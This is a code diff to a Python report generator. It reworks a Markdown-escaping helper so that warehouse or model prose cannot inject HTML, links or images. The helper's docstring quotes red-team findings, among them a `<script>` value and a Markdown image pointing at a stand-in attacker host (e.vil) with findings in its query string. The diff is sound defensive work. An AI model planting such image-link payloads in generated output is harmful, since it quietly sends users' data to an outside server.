@@ -19,15 +19,14 @@ BADGE = {
 SEVERITY_ORDER = {"critical": 0, "high": 1, "medium": 2, "low": 3}
 
 
-_MD_SYNTAX = str.maketrans({c: "\\" + c for c in "\\[]`"})
-
-
 def _md(text: str) -> str:
     """Prose from the warehouse or a model as Markdown shows it: table pipes and HTML escaped (a category value
-    "<script>" reached the Markdown report and the Prefect artifact as a tag: session 23's red team), and link and
-    image syntax (``![](https://e.vil/p.png?d=...)`` would have a viewer fetch a URL that carries the findings:
-    red team 10) and code spans shown as written."""
-    return html.escape(text or "", quote=False).translate(_MD_SYNTAX).replace("|", "\\|").replace("\n", " ")
+    "<script>" reached the Markdown report and the Prefect artifact as a tag: session 23's red team), and no link or
+    image (``![](https://e.vil/p.png?d=...)`` would have a viewer fetch a URL that carries the findings: red team
+    10): backslashes, a bracket before a parenthesis and an image's ``![`` are escaped, so "[confirmed] share"
+    still reads as written in the file."""
+    text = html.escape(text or "", quote=False).replace("\\", "\\\\")
+    return text.replace("](", "\\](").replace("![", "!\\[").replace("|", "\\|").replace("\n", " ")
 
 
 def validation_line(i: Insight) -> str:
